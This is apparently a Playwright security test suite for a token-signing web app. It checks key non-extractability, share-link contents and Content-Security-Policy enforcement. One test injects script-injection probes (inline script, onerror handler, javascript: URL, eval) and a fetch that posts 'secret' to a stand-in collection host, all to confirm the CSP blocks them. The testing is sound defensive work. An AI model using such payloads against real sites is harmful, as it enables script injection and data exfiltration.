import { readFileSync } from 'node:fs';
import type { Page } from '@playwright/test';
import { expect, test } from './fixtures.ts';
import { AGENT_A, openInspector, signAsAgentA } from './inspect-helpers.ts';

/**
 * Security checks of the app as shipped (issue #7): private keys stay inside WebCrypto, share
 * links carry the token and nothing else, the Content-Security-Policy is there and enforced,
 * and no tab ever talks to another origin.
 */

const DEFECTS = readFileSync(new URL('./data/ledger-defects.json', import.meta.url), 'utf8');

/** Every private key in the key store, straight from IndexedDB: what WebCrypto lets out of it. */
async function storedPrivateKeys(page: Page) {
  return page.evaluate(
    () =>
      new Promise<
        {
          name: string;
          extractableFlag: boolean;
          cryptoExtractable: boolean;
          type: string;
          usages: string[];
          jwk: string;
          pkcs8: string;
          recordHasD: boolean;
        }[]
      >((resolve, reject) => {
        const open = indexedDB.open('ect-workbench');
        open.onerror = () => reject(open.error);
        open.onsuccess = () => {
          const db = open.result;
          const get = db.transaction('keys').objectStore('keys').getAll();
          get.onerror = () => reject(get.error);
          get.onsuccess = async () => {
            db.close();
            type Rec = { name: string; extractable: boolean; privateKey?: CryptoKey; publicJwk: object };
            const out = [];
            for (const r of get.result as Rec[]) {
              if (!r.privateKey) continue;
              const tryExport = (format: 'jwk' | 'pkcs8') =>
                crypto.subtle.exportKey(format, r.privateKey!).then(
                  () => 'exported',
                  (e: unknown) => (e instanceof DOMException ? e.name : String(e)),
                );
              out.push({
                name: r.name,
                extractableFlag: r.extractable,
                cryptoExtractable: r.privateKey.extractable,
                type: r.privateKey.type,
                usages: [...r.privateKey.usages],
                jwk: await tryExport('jwk'),
                pkcs8: await tryExport('pkcs8'),
                recordHasD: JSON.stringify({ ...r, privateKey: undefined }).includes('"d"'),
              });
            }
            resolve(out);
          };
        };
      }),
  );
}

test.describe('Security of the app', () => {
  test('a generated key is non-extractable: WebCrypto refuses to export it, even read straight from IndexedDB', async ({
    page,
  }) => {
    await page.goto('./#/keys');
    const panel = page.getByRole('region', { name: 'Generate a signing key' });
    await panel.getByLabel('Name', { exact: true }).fill('Agent S');
    await panel.getByLabel('Issuer (iss) the key is bound to').fill('spiffe://example.com/agent/s');
    await panel.getByRole('button', { name: 'Generate key' }).click();
    await expect(panel.getByRole('status')).toContainText('Generated “Agent S”');
    // One the user asked to be exportable, for contrast.
    await panel.getByLabel('Name', { exact: true }).fill('Agent P');
    await panel.getByLabel('Issuer (iss) the key is bound to').fill('spiffe://example.com/agent/p');
    await panel.getByLabel('Extractable private key').check();
    await panel.getByRole('button', { name: 'Generate key' }).click();
    await expect(panel.getByRole('status')).toContainText('Generated “Agent P”');

    const keys = await storedPrivateKeys(page);
    const s = keys.find((k) => k.name === 'Agent S');
    expect(s).toEqual({
      name: 'Agent S',
      extractableFlag: false,
      cryptoExtractable: false,
      type: 'private',
      usages: ['sign'],
      jwk: 'InvalidAccessError',
      pkcs8: 'InvalidAccessError',
      recordHasD: false,
    });
    expect(keys.find((k) => k.name === 'Agent P')).toMatchObject({
      cryptoExtractable: true,
      jwk: 'exported',
    });
    // The example agents' keys (seeded on a first visit) are locked in the same way.
    const examples = keys.filter((k) => k.name.startsWith('Example agent'));
    expect(examples).toHaveLength(3);
    for (const k of examples)
      expect(k).toMatchObject({ cryptoExtractable: false, jwk: 'InvalidAccessError' });
  });

  test('a share link carries the token in the fragment and nothing else', async ({ page, context }) => {
    await openInspector(page);
    const first = await signAsAgentA({ exec_act: 'first_task' });
    const second = await signAsAgentA({ exec_act: 'second_task' });
    // Pasted as a header line with two tokens: the second card's link holds the second token only.
    await page.getByLabel('Paste ECTs').fill(`Execution-Context: ${first}, ${second}`);
    const card = page.getByTestId('token-card').nth(1);
    await expect(card.getByTestId('verdict')).toHaveAttribute('data-status', 'valid');
    await card.getByRole('button', { name: 'Share link' }).click();
    const link = new URL(await card.getByTestId('share-link').inputValue());

    expect(link.origin + link.pathname).toBe(new URL(page.url()).origin + new URL(page.url()).pathname);
    expect(link.search, 'nothing in the query (it would reach the server)').toBe('');
    expect(link.username + link.password).toBe('');
    const [route, query] = link.hash.split('?') as [string, string];
    expect(route).toBe('#/inspect');
    const params = new URLSearchParams(query);
    expect([...params.keys()]).toEqual(['token']);
    expect(params.get('token')).toBe(second);
    // No key material, not even the public key.
    expect(link.href).not.toContain(AGENT_A.jwk.d!);
    expect(link.href).not.toContain(AGENT_A.jwk.x!);

    // Opening it shows that token, verified against the opener's own keys.
    const other = await context.newPage();
    await other.goto(link.href);
    await expect(other.getByLabel('Paste ECTs')).toHaveValue(second);
    await expect(other.getByTestId('verdict')).toHaveAttribute('data-status', 'valid');
    await other.close();
  });

  test('the Content-Security-Policy is in the page, first, with connect-src self and no inline script', async ({
    page,
  }) => {
    await page.goto('./');
    const html = await (await page.request.get('./')).text();
    const meta = html.indexOf('http-equiv="Content-Security-Policy"');
    expect(meta, 'a CSP meta tag').toBeGreaterThan(0);
    expect(meta, 'before any script (a CSP meta tag only covers what follows it)').toBeLessThan(
      html.indexOf('<script'),
    );
    const csp = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
    const directives = new Map(
      csp!
        .split(';')
        .map((d) => d.trim().split(/\s+/))
        .filter((d) => d[0])
        .map(([name, ...values]) => [name!, values]),
    );
    expect(directives.get('default-src')).toEqual(["'self'"]);
    expect(directives.get('connect-src')).toEqual(["'self'"]);
    expect(directives.get('script-src')).toEqual(["'self'"]);
    expect(directives.get('object-src')).toEqual(["'none'"]);
    expect(directives.get('base-uri')).toEqual(["'none'"]);
    expect(directives.get('form-action')).toEqual(["'none'"]);
    for (const [name, values] of directives) {
      if (name.startsWith('script-src') || name === 'default-src' || name === 'worker-src') {
        expect(values, name).not.toContain("'unsafe-inline'");
        expect(values, name).not.toContain("'unsafe-eval'");
      }
      expect(values, `${name}: no wildcard source`).not.toContain('*');
      expect(
        values.filter((v) => /^(https?:|wss?:)/.test(v)),
        `${name}: no other origin`,
      ).toEqual([]);
    }
    await expect(page.locator('meta[name="referrer"]')).toHaveAttribute('content', 'no-referrer');
    // Every script the page loaded is its own file: none inline.
    const scripts = await page.evaluate(() =>
      [...document.scripts].map((s) => ({
        src: s.src,
        inline: !s.src && (s.textContent ?? '').trim() !== '',
      })),
    );
    for (const s of scripts) {
      expect(s.inline).toBe(false);
      expect(new URL(s.src).origin).toBe(new URL(page.url()).origin);
    }
  });

  // The violations are logged to the console as errors (which the shared fixture would count as a
  // failure), so this test uses a page of its own and checks those errors itself.
  test('injected inline script, inline handlers, eval and a request to another origin are all blocked', async ({
    browser,
    baseURL,
  }) => {
    const context = await browser.newContext({ baseURL: baseURL! });
    const page = await context.newPage();
    const origin = new URL(baseURL!).origin;
    const offOrigin: string[] = [];
    page.on('request', (r) => {
      if (!r.url().startsWith(origin) && !/^(data|blob):/.test(r.url())) offOrigin.push(r.url());
    });
    await page.route(
      (url) => url.origin !== origin,
      (route) => route.abort('blockedbyclient'),
    );
    await page.route('**/eval-probe.js', (route) =>
      route.fulfill({
        contentType: 'text/javascript',
        body: 'try { new Function("window.ectEval = 1")(); } catch (e) { window.ectEvalBlocked = e instanceof EvalError; }',
      }),
    );
    const consoleErrors: string[] = [];
    page.on('console', (m) => {
      if (m.type() === 'error') consoleErrors.push(m.text());
    });
    const dialogs: string[] = [];
    page.on('dialog', (d) => {
      dialogs.push(d.message());
      void d.dismiss();
    });
    try {
      await page.goto('./');
      await expect(page.getByRole('heading', { name: 'ECT Workbench' })).toBeVisible();
      const result = await page.evaluate(async () => {
        const w = window as unknown as Record<string, unknown>;
        const violations: string[] = [];
        document.addEventListener('securitypolicyviolation', (e) =>
          violations.push(`${e.effectiveDirective} ${e.blockedURI}`),
        );
        const script = document.createElement('script');
        script.textContent = 'window.ectInline = 1; alert(1)';
        document.body.append(script);
        const div = document.createElement('div');
        div.innerHTML = '<img src="data:," onerror="window.ectHandler = 1; alert(2)">';
        document.body.append(div);
        const a = document.createElement('a');
        a.href = 'javascript:window.ectJsUrl = 1';
        document.body.append(a);
        a.click();
        // eval, from a script of the page's own origin (code run by the test itself is exempt).
        const probe = document.createElement('script');
        probe.src = '/eval-probe.js';
        const evalBlocked = await new Promise<boolean>((resolve) => {
          probe.onload = () => resolve(w.ectEvalBlocked === true);
          probe.onerror = () => resolve(false);
          document.body.append(probe);
        });
        let fetchBlocked = false;
        try {
          await fetch('https://example.com/collect', { method: 'POST', body: 'secret' });
        } catch {
          fetchBlocked = true;
        }
        await new Promise((r) => setTimeout(r, 200));
        return {
          ran: ['ectInline', 'ectHandler', 'ectJsUrl', 'ectEval'].filter((k) => k in w),
          evalBlocked,
          fetchBlocked,
          violations: [...new Set(violations.map((v) => v.split(' ')[0]))].sort(),
          blockedFetch: violations.filter((v) => v.includes('example.com')),
        };
      });
      expect(result.ran, 'injected code that ran').toEqual([]);
      expect(result.evalBlocked).toBe(true);
      expect(result.fetchBlocked).toBe(true);
      expect(result.violations).toEqual(
        expect.arrayContaining(['connect-src', 'script-src', 'script-src-attr', 'script-src-elem']),
      );
      // CSP stopped the request before the network: it was never even attempted. Each policy in
      // force reports it: the meta tag's, and the header's where the server sends public/_headers.
      expect([...new Set(result.blockedFetch)]).toEqual(['connect-src https://example.com/collect']);
      expect(offOrigin).toEqual([]);
      expect(dialogs).toEqual([]);
      // The only console errors are the browser's CSP reports.
      for (const e of consoleErrors) expect(e).toMatch(/Content Security Policy|Refused to/);
    } finally {
      await context.close();
    }
  });

  test('every tab, its main action done: not one request leaves the origin', async ({ page, baseURL }) => {
    test.setTimeout(60_000);
    const origin = new URL(baseURL!).origin;
    const requests: string[] = [];
    page.on('request', (r) => requests.push(r.url()));

    // Inspect: a fresh example, verified; its share link.
    await openInspector(page);
    await page.getByRole('button', { name: 'Example', exact: true }).click();
    await expect(page.getByTestId('verdict')).toHaveAttribute('data-status', 'valid');
    await page.getByRole('button', { name: 'Share link' }).click();
    await expect(page.getByTestId('share-panel')).toBeVisible();

    // Create: sign a token with agent a.
    await page.getByRole('link', { name: 'Create', exact: true }).click();
    await page
      .getByLabel('Signing key')
      .selectOption({ label: 'Example agent A (test key) · kid agent-a-key · spiffe://example.com/agent/a' });
    await page.getByLabel('exec_act', { exact: true }).fill('smoke_test');
    await page.getByRole('button', { name: 'Sign', exact: true }).click();
    await expect(page.getByTestId('result-token')).toBeVisible();

    // Keys & trust: generate a key.
    await page.getByRole('link', { name: 'Keys & trust' }).click();
    const gen = page.getByRole('region', { name: 'Generate a signing key' });
    await gen.getByLabel('Name', { exact: true }).fill('Smoke key');
    await gen.getByLabel('Issuer (iss) the key is bound to').fill('spiffe://example.com/agent/smoke');
    await gen.getByRole('button', { name: 'Generate key' }).click();
    await expect(gen.getByRole('status')).toContainText('Generated “Smoke key”');

    // Ledger: import a file.
    await page.getByRole('link', { name: 'Ledger', exact: true }).click();
    await page.getByTestId('ledger-file-input').setInputFiles({
      name: 'defects.json',
      mimeType: 'application/json',
      buffer: Buffer.from(DEFECTS),
    });
    await expect(page.getByTestId('import-outcome')).toContainText('Added');

    // Graph: drawn, a node opened, the report exported.
    await page.getByRole('link', { name: 'Graph', exact: true }).click();
    await expect(page.getByTestId('graph-canvas')).toHaveAttribute('data-layout', 'done');
    await page.getByRole('button', { name: 'Fit View' }).click();
    await page.getByTestId('graph-node').first().click();
    await expect(page.getByTestId('node-panel')).toBeVisible();
    const [download] = await Promise.all([
      page.waitForEvent('download'),
      page.getByRole('button', { name: 'JSON report' }).click(),
    ]);
    expect(download.url()).toMatch(/^blob:/);

    // Simulate: run a scenario through.
    await page.getByRole('link', { name: 'Simulate', exact: true }).click();
    await page.getByRole('button', { name: 'Run all' }).click();
    await expect(page.getByTestId('sim-status')).toHaveAttribute('data-state', 'done');

    // Learn: the dictionaries, filtered.
    await page.getByRole('link', { name: 'Learn', exact: true }).click();
    await page.getByLabel('Filter error codes').fill('signature');
    await expect(page.locator('[data-code="invalid_signature"][data-testid="code-entry"]')).toBeVisible();

    expect(requests.length).toBeGreaterThan(0);
    expect(requests.filter((u) => !u.startsWith(`${origin}/`) && !/^(data|blob):/.test(u))).toEqual([]);
  });
});
